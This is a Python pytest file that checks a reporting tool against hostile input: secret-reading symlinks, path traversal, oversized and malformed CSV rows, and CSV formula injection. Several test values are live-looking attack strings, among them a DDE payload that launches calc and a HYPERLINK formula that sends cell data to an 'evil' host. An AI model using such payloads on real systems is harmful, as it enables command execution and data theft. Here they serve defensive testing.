"""Issue 18: hostile input and stale state. Each test uses the issue's own input, scaled
down; each failed before the change it guards."""
from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path
from zoneinfo import ZoneInfo

import numpy as np
import pandas as pd
import pytest

from reporting.build import build
from reporting.compute.coverage import data_span
from reporting.compute.incidents import section as incidents
from reporting.compute.incidents.signals import _by, grid, signals
from reporting.core import periods
from reporting.core.config import Config, Thresholds
from reporting.core.contracts import SPECS
from reporting.core.errors import ConfigError, NotOwner, ReportError, SourceError
from reporting.core.safecsv import neutralise
from reporting.core.values import Chart, Table
from reporting.ingest.csvrepair import LONG_LINE, prepared_csv
from reporting.ingest.folder import load_source
from reporting.present import charts
from reporting.present.html import table_view
from reporting.simulate import simulate
from reporting.store import owner
from reporting.store.archive import Archive
from reporting.store.paths import inside

from .rows import load_all

UTC = ZoneInfo("UTC")
ROOT = Path(__file__).resolve().parent.parent
API_HEADER = "timestamp,endpoint,status_code,response_time_ms,service_name,method\n"


def api_rows(n: int, services: int = 3, endpoints: int = 4, day: str = "2026-11-02") -> list[str]:
    return [f"{day}T{i % 24:02d}:{i % 60:02d}:00Z,/e{i % endpoints},200,{100 + i % 50},"
            f"svc{i % services},GET\n" for i in range(n)]


@pytest.fixture(scope="module")
def tiny(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("tiny")
    simulate(folder, 2, "tiny", 7)
    return folder


# --- 2. orphan PDF workers ---------------------------------------------------------------

def _children(pid: int) -> set[int]:
    """Every live descendant of `pid` (from /proc)."""
    parents: dict[int, int] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if fields[0] != "Z":
                parents[int(entry.name)] = int(fields[1])
    found, todo = set(), [pid]
    while todo:
        p = todo.pop()
        for child, parent in parents.items():
            if parent == p and child not in found:
                found.add(child)
                todo.append(child)
    return found


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="PR_SET_PDEATHSIG is Linux")
def test_kill_9_during_pdf_stage_leaves_no_worker(tiny, tmp_path):
    """kill -9 of a build while its two PDF workers render: the fork server and workers
    die with it (before: they lived on and replaced the next build's PDFs)."""
    (tmp_path / "slowpdf.py").write_text(
        "import time\nimport reporting.present.pdf\n\n"
        "def job(job):\n    time.sleep(60)\n    return reporting.present.pdf.pdf_job(job)\n")
    marker, out = tmp_path / "stage", tmp_path / "out"
    script = (
        "import sys, pathlib\n"
        f"sys.path.insert(0, {str(tmp_path)!r})\n"
        "import slowpdf, reporting.build as b, reporting.present.pdf as pdf\n"
        "import reporting.present.workers as workers\n"
        "from reporting.core.config import Config\n"
        "pdf.pdf_job = slowpdf.job\n"
        "workers.pdf_workers = lambda n: 2\n"
        f"b.build(Config(), audiences=['it', 'support'], fmt='pdf', data_dir={str(tiny)!r},"
        f" output_dir={str(out)!r},"
        f" on_stage=lambda s: pathlib.Path({str(marker)!r}).write_text(s))\n")
    env = {**os.environ, "PYTHONPATH": f"{tmp_path}:{ROOT}"}
    proc = subprocess.Popen([sys.executable, "-c", script], env=env)
    try:
        deadline = time.monotonic() + 120
        kids: set[int] = set()
        while time.monotonic() < deadline:
            if marker.exists() and marker.read_text() == "pdf":
                kids = _children(proc.pid)
                if len(kids) >= 3:      # the fork server and its two workers, at least
                    break
            assert proc.poll() is None, "the build ended before its PDF stage"
            time.sleep(0.2)
        assert len(kids) >= 3, f"no PDF workers seen: {kids}"
        time.sleep(1.0)                 # the workers are inside their job now
        kids |= _children(proc.pid)
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait()
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline and any(_alive(k) for k in kids):
            time.sleep(0.2)
        survivors = [k for k in kids if _alive(k)]
        for k in survivors:             # clean up before failing
            os.kill(k, signal.SIGKILL)
        assert survivors == []
        assert not list((out / "reports").glob("*/*.pdf"))
    finally:
        if proc.poll() is None:
            proc.kill()


def test_stale_build_cannot_replace_a_newer_builds_pdf(tmp_path):
    old = owner.take_over(tmp_path)
    new = owner.take_over(tmp_path)          # the next build of the same period took the folder
    target = tmp_path / "reports" / "2026-W45" / "it.pdf"
    target.parent.mkdir(parents=True)
    target.write_bytes(b"the new build's PDF")
    with pytest.raises(NotOwner):
        owner.write_if_owner(target, b"stale", tmp_path, old)
    assert target.read_bytes() == b"the new build's PDF"
    assert [p.name for p in target.parent.iterdir()] == ["it.pdf"]   # no temporary left
    owner.write_if_owner(target, b"current", tmp_path, new)
    assert target.read_bytes() == b"current"


# --- 1. a symlinked input leaks secrets ----------------------------------------------------

def test_symlink_to_proc_environ_leaks_nothing(tiny, tmp_path):
    """`ln -sf /proc/self/environ data/api_logs.csv`: the SMTP password stays out of
    stderr (before: "columns found: 'REPORT_SMTP_PASSWORD=…'")."""
    data = tmp_path / "data"
    data.mkdir()
    (data / "api_logs.csv").symlink_to("/proc/self/environ")
    env = {**os.environ, "REPORT_SMTP_PASSWORD": "hunter2-Zq81", "PYTHONPATH": str(ROOT)}
    run = subprocess.run([sys.executable, "-m", "reporting", "validate", "--data", str(data)],
                         env=env, capture_output=True, text=True, cwd=tmp_path)
    assert run.returncode == 2
    assert "hunter2" not in run.stdout + run.stderr
    assert "outside the data folder" in run.stderr


def test_symlink_outside_data_folder_is_refused_and_the_rest_loads(tiny, tmp_path):
    secret = tmp_path / "shadow"
    secret.write_text("root:$6$saltsalt$secrethash:19000:0:99999:7:::\n")
    data = tmp_path / "data"
    data.mkdir()
    (data / "api_logs.csv").symlink_to(secret)
    (data / "clickstream.csv").write_bytes((tiny / "clickstream.csv").read_bytes())
    (data / "inside.csv").write_bytes((tiny / "support_tickets.csv").read_bytes())
    (data / "support_tickets.csv").symlink_to(data / "inside.csv")   # inside: fine
    loaded = load_all(data, UTC)
    q = loaded.quality["api_logs"]
    assert q.status == "error" and "secrethash" not in q.message
    assert q.message.endswith("(copy the file there instead of linking).")
    assert loaded.quality["clickstream"].status == "loaded"
    assert loaded.quality["support_tickets"].status == "loaded"


def test_missing_column_message_quotes_a_bounded_sanitised_header(tmp_path):
    secret = ",".join(f"KEY{i}=s3cr3t-{'x' * 300}" for i in range(50))
    path = tmp_path / "api_logs.csv"
    path.write_text(secret + "\n1,2\n")
    with pytest.raises(SourceError) as caught:
        load_source(path, SPECS["api_logs"], UTC)
    text = str(caught.value)
    assert len(text) < 1000
    assert "and 38 more" in text                    # 12 of 50 names quoted
    assert "x" * 40 not in text                     # each cut to 40 characters
    assert "'KEY0?s3cr3t-xxxxxxxxxxxxxxxxxxxxxxxxxxx…'" in text   # "=" replaced


# --- 3. memory grows with rows x distinct names ---------------------------------------------

def test_by_groups_in_one_pass():
    col = pd.Series(["b", "a", None, "b", "c", "a"], dtype="category")
    groups = {name: idx.tolist() for name, idx in _by(col)}
    assert groups == {"a": [1, 5], "b": [0, 3], "c": [4]}


def test_incidents_judge_the_top_n_services_plus_other(tmp_path):
    """5k distinct services (scaled to 300): per-entity signals and archived rows cover the
    top 100 by volume and one "other" bucket."""
    from tests.conftest import week_of

    rows = []
    for day in range(1, 15):        # two weeks: a baseline week and the period
        for i in range(600):
            svc = f"svc{i % 300}" if i >= 200 else f"busy{i % 10}"   # 10 busy services
            # spread over each hour, so the last hour's rows cover it to 23:59 (rows only
            # at 23:00:00 would leave the rest of that hour unknown, gaps.partial)
            rows.append(f"2026-11-{day:02d}T{i % 24:02d}:{i % 60:02d}:00Z,/e,200,{100 + i % 7},"
                        f"{svc},GET\n")
    path = tmp_path / "api_logs.csv"
    path.write_text(API_HEADER + "".join(rows))
    frame, _ = load_source(path, SPECS["api_logs"], UTC)
    assert frame["service_name"].nunique() == 310
    period = week_of("2026-11-08")
    section, found, archived = incidents.compute({"api_logs": frame}, period, Thresholds(),
                                                 top_n=100)
    entities = set(archived["entity"])
    assert len(entities) == 101
    assert {f"busy{i}" for i in range(10)} <= entities and "other" in entities
    hours = grid(period, {"api_logs": frame})
    sigs = signals({"api_logs": frame}, hours, 100)
    other = next(s for s in sigs if s.name == "api.requests" and s.entity == "other")
    assert other.values.sum() == 14 * 600 - sum(
        s.values.sum() for s in sigs if s.name == "api.requests" and s.entity != "other")


def test_bar_chart_of_5000_services_draws_25_bars_and_says_how_many_more(tmp_path):
    data = pd.DataFrame({"service_name": [f"svc{i}" for i in range(5000)],
                         "p95_ms": np.arange(5000, 0, -1, dtype=float)})
    path = charts.draw(Chart("api_p95_service", "barh", "p95 latency by service (ms)", data,
                             {"label": "service_name", "value": "p95_ms", "unit": "ms"}),
                       tmp_path / "c.svg")
    svg = path.read_text()
    assert "p95 latency by service (ms) (first 25 of 5,000)" in svg
    assert "svc24<" in svg and "svc25<" not in svg
    assert path.stat().st_size < 200_000       # before: 4 MB


def test_tables_say_how_many_rows_are_not_shown():
    view = table_view(Table("services", "By service",
                            pd.DataFrame({"service_name": [f"s{i}" for i in range(40)]}), {}), {})
    assert len(view["rows"]) == 15 and view["more"] == 25


# --- 4. one long comment stalls rendering --------------------------------------------------

def test_5000_character_comment_renders_quickly_cut_with_ellipsis(tiny, tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    for f in tiny.iterdir():
        (data / f.name).write_bytes(f.read_bytes())
    comment = " ".join(["terrible awful broken"] * 240)[:5000]
    with open(data / "user_feedback.csv", "a") as fh:
        fh.write(f'"U9",2026-11-01 10:00:00Z,"{comment}",1\n')
    started = time.perf_counter()
    result = build(Config(), audiences=["support"], fmt="both", data_dir=data,
                   output_dir=tmp_path / "out", period="2026-W44")
    seconds = time.perf_counter() - started
    assert seconds < 20                    # before: 38 s for the PDF alone
    html = (result.folder / "html" / "support.html").read_text()
    assert comment[:200] in html and comment not in html
    assert "…" in html


def test_a_long_unbroken_endpoint_breaks_anywhere_and_stays_on_the_page(tiny, tmp_path):
    """Table cells break between words (WeasyPrint measures those per word, not per letter:
    issue 34, a third of the PDF's time); a column holding a word over 20 characters (a
    URL path) breaks anywhere, so a 160-character path keeps the table on the page."""
    from weasyprint import HTML

    data = tmp_path / "data"
    data.mkdir()
    for f in tiny.iterdir():
        (data / f.name).write_bytes(f.read_bytes())
    long = "/api/v1/" + "orders" * 25 + "/items"
    rows = pd.read_csv(data / "api_logs.csv", nrows=1)
    first = pd.read_csv(data / "api_logs.csv", usecols=["timestamp"])["timestamp"]
    rows = pd.concat([rows] * 40, ignore_index=True)
    rows["timestamp"] = pd.to_datetime(first, utc=True).max() - pd.Timedelta(hours=1)
    rows["endpoint"], rows["response_time_ms"], rows["status_code"] = long, 9000.0, 500
    rows.to_csv(data / "api_logs.csv", mode="a", header=False, index=False)
    result = build(Config(), audiences=["it"], fmt="html", data_dir=data,
                   output_dir=tmp_path / "out")
    html = (result.folder / "html" / "it.html").read_text()
    cells = re.findall(r'<td class="([^"]*)">([^<]*)</td>', html)
    assert any(text == long and "long-words" in cls.split() for cls, text in cells)
    words = [text for cls, text in cells if cls.split() == []]   # text columns, whole words
    assert words and all(len(w) <= 20 for text in words for w in text.split())
    document = HTML(string=html, base_url=str(result.folder / "html") + "/").render()
    page = document.pages[0]
    right = page.width - page._page_box.margin_right
    for page in document.pages:
        for box in page._page_box.descendants():
            if type(box).__name__ == "TableBox":
                assert box.position_x + box.margin_width() <= right + 0.5


def test_pdf_render_timeout_is_one_sentence_naming_the_audience(tiny, tmp_path):
    import dataclasses

    config = dataclasses.replace(Config(), pdf_timeout_s=0.01)
    with pytest.raises(ReportError, match=r"^The support PDF took longer than 0\.01 s to "
                                          r"render and was stopped \(pdf_timeout_s"):
        build(config, audiences=["support"], fmt="pdf", data_dir=tiny,
              output_dir=tmp_path / "out")
    assert not list((tmp_path / "out").glob("reports/*/support.pdf"))


def test_pdf_timeout_holds_off_the_main_thread_too(tiny, tmp_path):
    """The scheduler builds in a thread, where no alarm can fire: the PDF then renders
    in a worker process whose alarm does."""
    import dataclasses
    import threading

    config = dataclasses.replace(Config(), pdf_timeout_s=0.01)
    caught: list[BaseException] = []

    def run() -> None:
        try:
            build(config, audiences=["it"], fmt="pdf", data_dir=tiny, output_dir=tmp_path)
        except BaseException as exc:    # noqa: BLE001 - handed to the test thread
            caught.append(exc)

    thread = threading.Thread(target=run)
    thread.start()
    thread.join(120)
    assert [str(e)[:46] for e in caught] == ["The it PDF took longer than 0.01 s to render a"]


# --- 5. paths from names --------------------------------------------------------------------

def test_audience_named_with_dots_and_slashes_is_refused(tmp_path):
    path = tmp_path / "report.toml"
    path.write_text('[audiences."../../../../x"]\ntitle = "x"\n')
    with pytest.raises(ConfigError, match="is not a valid name"):
        Config.load(path)


def _cli(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "reporting", *args], capture_output=True,
                          text=True, cwd=cwd, env={**os.environ, "PYTHONPATH": str(ROOT)})


def test_send_refuses_a_period_outside_the_archive(tmp_path):
    out = tmp_path / "out"
    with Archive(out):
        pass
    fake = tmp_path / "fake"               # --period ../../fake names this folder
    fake.mkdir()
    (fake / "kpis.json").write_text("{}")
    (fake / "it.pdf").write_bytes(b"%PDF-1.7 not ours")
    run = _cli("send", "--period", "../../fake", "--output", str(out), cwd=tmp_path)
    assert run.returncode == 2
    assert "'../../fake' is not a period id" in run.stderr
    assert not (out / "outbox").exists()


def test_prune_refuses_a_tampered_folder_outside_the_output(tmp_path):
    import sqlite3

    out, victim = tmp_path / "out", tmp_path / "victim"
    victim.mkdir()
    (victim / "precious.txt").write_text("keep me")
    with Archive(out):
        pass
    db = sqlite3.connect(out / "archive.sqlite")
    db.execute("INSERT INTO periods VALUES ('2026-W40', '2026-09-28T00:00:00+00:00',"
               " '2026-10-05T00:00:00+00:00', '../victim', '2026-10-05T07:00:00+00:00')")
    db.commit()
    db.close()
    with Archive(out) as store, pytest.raises(ReportError, match="refusing to delete it"):
        store.prune(0)
    assert (victim / "precious.txt").read_text() == "keep me"


def test_inside_refuses_paths_that_leave_the_folder(tmp_path):
    good = tmp_path / "reports/2026-W46/it.pdf"
    assert inside(tmp_path, good) == good
    for bad in ("../x.pdf", "reports/../../x", "/tmp/x.pdf"):
        with pytest.raises(ReportError, match="outside the output folder"):
            inside(tmp_path, tmp_path / bad)
    (tmp_path / "link").symlink_to("/tmp")
    with pytest.raises(ReportError):
        inside(tmp_path, tmp_path / "link/x.pdf")


# --- 6. extreme timestamps -------------------------------------------------------------------

def test_extreme_timestamps_are_rejected_rows_and_the_build_works(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    extreme = ["9999-12-31", "2262-04-12", "0001-01-01T00:00:00Z", "1500-01-01",
               "2031-06-02T10:00:00Z"]
    lines = api_rows(200) + [f"{t},/e1,200,120,svc1,GET\n" for t in extreme]
    (data / "api_logs.csv").write_text(API_HEADER + "".join(lines))
    loaded = load_all(data, UTC)
    q = loaded.quality["api_logs"]
    assert (q.rows, q.valid) == (205, 200)
    assert q.rejected == {"timestamp in the future": 3, "timestamp before 2000-01-01": 2}
    bad = loaded.rejected["api_logs"]
    assert bad["row"].tolist() == [202, 203, 204, 205, 206]
    assert bad["timestamp"].tolist() == extreme           # as written
    latest = periods.resolve("latest", UTC, data_span(loaded.frames))
    assert latest.end <= pd.Timestamp("2026-11-03", tz="UTC")   # not an empty 2031 week
    result = build(Config(), period="all", audiences=["it"], fmt="html", data_dir=data,
                   output_dir=tmp_path / "out")        # before: OverflowError / MemoryError
    doc = json.loads((result.folder / "kpis.json").read_text())
    assert doc["kpis"]["api.requests"]["value"] == 200


def test_timestamp_range_is_configurable(tmp_path):
    c = Config.from_dict({"earliest_timestamp": "2026-11-02", "future_margin_hours": 0})
    assert (c.earliest_timestamp, c.future_margin_hours) == ("2026-11-02", 0.0)
    with pytest.raises(ConfigError, match="earliest_timestamp must be a date"):
        Config.from_dict({"earliest_timestamp": "yesterday"})


# --- 7. one bad row drops a whole source -----------------------------------------------------

def test_one_short_row_is_a_rejected_row_with_its_line_number(tmp_path):
    """40,000 rows with one of 5 fields (scaled to 2,000): the other rows load."""
    lines = api_rows(2000)
    lines[999] = "2026-11-02T10:00:00Z,/e1,200,120,svc1\n"     # line 1001 of the file
    lines[1500] = "2026-11-02T10:00:00Z,/e1,abc,120,svc1,GET\n"  # an ordinary bad row
    (tmp_path / "api_logs.csv").write_text(API_HEADER + "".join(lines))
    loaded = load_all(tmp_path, UTC)
    q = loaded.quality["api_logs"]
    assert q.status == "loaded" and (q.rows, q.valid) == (2000, 1998)
    assert q.rejected == {"malformed line (5 of 6 fields)": 1, "non-numeric status_code": 1}
    bad = loaded.rejected["api_logs"]
    assert bad["row"].tolist() == [1001, 1502]
    assert bad["reason"].tolist() == ["malformed line (5 of 6 fields)",
                                      "non-numeric status_code"]
    assert bad.loc[1, "status_code"] == "abc"
    assert bad.loc[0, "service_name"] == "svc1" and pd.isna(bad.loc[0, "method"])


def test_one_latin1_byte_rejects_one_feedback_row_not_all(tmp_path):
    text = ('user_id,timestamp,feedback_text,rating\n'
            'U1,2026-11-02T10:00:00Z,fine,4\n'
            'U2,2026-11-02T11:00:00Z,caf\xe9 was slow,2\n'
            'U3,2026-11-02T12:00:00Z,great,5\n')
    (tmp_path / "user_feedback.csv").write_bytes(text.encode("latin-1"))
    loaded = load_all(tmp_path, UTC)
    q = loaded.quality["user_feedback"]
    assert q.status == "loaded" and (q.rows, q.valid) == (3, 2)
    assert q.rejected == {"not UTF-8 (bytes replaced with \ufffd)": 1}
    bad = loaded.rejected["user_feedback"]
    assert bad["row"].tolist() == [3] and bad.loc[0, "feedback_text"] == "caf\ufffd was slow"


def test_oversized_line_and_header_field(tmp_path):
    """A 1 GB line (scaled to 20 MB) is one rejected row with its line number and the
    rest of the source loads; a 200 KB header field is just an extra column."""
    lines = api_rows(100)
    lines[50] = f"2026-11-02T10:00:00Z,/{'x' * 20_000_000},200,5,svc,GET\n"   # line 52
    lines[70] = "2026-11-02T10:00:00Z,/e1,200,120,svc1\n"                   # line 72
    lines[80] = "2026-11-02T10:00:00Z,/e1,abc,120,svc1,GET\n"               # line 82
    (tmp_path / "api_logs.csv").write_text(API_HEADER + "".join(lines))
    feedback = f"user_id,timestamp,{'n' * 200_000},feedback_text,rating\n" \
               "U1,2026-11-02T10:00:00Z,z,fine,4\n"
    (tmp_path / "user_feedback.csv").write_text(feedback)
    loaded = load_all(tmp_path, UTC)
    q = loaded.quality["api_logs"]
    assert q.status == "loaded" and (q.rows, q.valid) == (100, 97)
    assert q.rejected == {"line longer than 1 MiB (not read)": 1,
                          "malformed line (5 of 6 fields)": 1, "non-numeric status_code": 1}
    bad = loaded.rejected["api_logs"]
    assert bad["row"].tolist() == [52, 72, 82]
    assert bad.loc[2, "status_code"] == "abc" and bad.loc[1, "service_name"] == "svc1"
    assert loaded.frames["api_logs"]["response_time_ms"].sum() == sum(
        100 + i % 50 for i in range(100) if i not in (50, 70, 80))
    assert loaded.quality["user_feedback"].valid == 1


def test_prepared_csv_drops_long_lines_without_holding_them(tmp_path):
    path = tmp_path / "x.csv"
    path.write_bytes(b"a,b\n1,2\n" + b"y" * (3 * LONG_LINE) + b"\n3,4\n" + b"z" * LONG_LINE * 2)
    data, dropped = prepared_csv(path, drop_long=True)
    assert data.read() == b"a,b\n1,2\n3,4\n" and dropped == [3, 5]
    # a two-byte "é" across the 1 MiB read boundary stays "é"; a Latin-1 byte is replaced
    text = b"a\n" + b"x" * ((1 << 20) - 3) + "é".encode() + b"\ncaf\xe9\n"
    path.write_bytes(text)
    data, _ = prepared_csv(path, replace=True, drop_long=False)
    assert data.read().decode("utf-8").endswith("xé\ncaf\ufffd\n")


# --- 8. CSV formula injection ------------------------------------------------------------------

def test_archive_export_neutralises_formulas(tmp_path):
    out = tmp_path / "out"
    with Archive(out) as store:
        store.record_build(
            period={"id": "2026-W45", "start": "2026-11-02T00:00:00+00:00",
                    "end": "2026-11-09T00:00:00+00:00"}, folder=out / "reports" / "2026-W45",
            files={}, version="t", config_hash="x", inputs={}, seconds=1.0,
            kpis={"clicks.top_page": {"value": '=HYPERLINK("http://evil/?"&A1,"x")',
                                      "unit": "text"},
                  "clicks.top_element": {"value": "+cmd|' /C calc'!A0", "unit": "text"},
                  "clicks.total": {"value": -3, "unit": "count"},
                  "pages.slowest_page": {"value": "@SUM(1+1)", "unit": "text"}})
    run = _cli("archive", "export", "--output", str(out), cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    table = pd.read_csv(out / "kpi_history.csv", dtype=str, keep_default_na=False)
    texts = dict(zip(table["kpi"], table["text"]))
    assert texts["clicks.top_page"] == '\'=HYPERLINK("http://evil/?"&A1,"x")'
    assert texts["clicks.top_element"] == "'+cmd|' /C calc'!A0"
    assert texts["pages.slowest_page"] == "'@SUM(1+1)"
    assert dict(zip(table["kpi"], table["value"]))["clicks.total"] == "-3.0"   # a number


def test_neutralise_follows_owasp_and_leaves_numbers():
    frame = pd.DataFrame({"page": ["=1+2", "-2+3+cmd", "\tx", "\rx", "@x", "/ok", "-12.5"],
                          "n": [-1, 2, 3, 4, 5, 6, 7]})
    out = neutralise(frame)
    assert out["page"].tolist() == ["'=1+2", "'-2+3+cmd", "'\tx", "'\rx", "'@x", "/ok",
                                    "-12.5"]
    assert out["n"].tolist() == [-1, 2, 3, 4, 5, 6, 7]


def test_rejected_rows_file_neutralises_formulas(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    lines = api_rows(100) + ['2026-11-02T10:00:00Z,=HYPERLINK("http://evil"),200,-5,svc1,GET\n']
    (data / "api_logs.csv").write_text(API_HEADER + "".join(lines))
    result = build(Config(), audiences=["it"], fmt="html", data_dir=data,
                   output_dir=tmp_path / "out")
    text = (result.folder / "rejected" / "api_logs.csv").read_text()
    assert "'=HYPERLINK" in text and ",-5," in text


# --- 9. unbounded breakdowns ----------------------------------------------------------------------

def test_breakdowns_keep_the_top_n_and_count_the_rest(tmp_path, monkeypatch):
    """430k distinct endpoints (scaled to 300): kpis.json keeps 100 and says 200 more."""
    import dataclasses

    data = tmp_path / "data"
    data.mkdir()
    lines = api_rows(3000, services=3, endpoints=300)
    lines += [f"2026-11-02T10:00:00Z,/e0,200,100,svc0,GET\n"] * 50    # /e0: the busiest
    (data / "api_logs.csv").write_text(API_HEADER + "".join(lines))
    result = build(Config(), audiences=["it"], fmt="html", data_dir=data,
                   output_dir=tmp_path / "out")
    api = json.loads((result.folder / "kpis.json").read_text())["breakdowns"]["api"]
    assert len(api["by_endpoint"]) == 100 and api["by_endpoint_more"] == 200
    assert "/e0" in api["by_endpoint"] and len(api["by_service"]) == 3
    assert "by_service_more" not in api
    monkeypatch.chdir(tmp_path)            # a relative output folder stays where it says
    small = build(dataclasses.replace(Config(), top_n=10), audiences=["it"], fmt="html",
                  data_dir=data, output_dir=Path("out2"))
    assert small.folder == Path("out2/reports/2026-10-27_2026-11-02")
    api = json.loads((tmp_path / small.folder / "kpis.json").read_text())["breakdowns"]["api"]
    assert len(api["by_endpoint"]) == 10 and api["by_endpoint_more"] == 290


def test_top_n_is_validated():
    assert Config.from_dict({"top_n": 20}).top_n == 20
    with pytest.raises(ConfigError, match="top_n must be a whole number"):
        Config.from_dict({"top_n": 0})
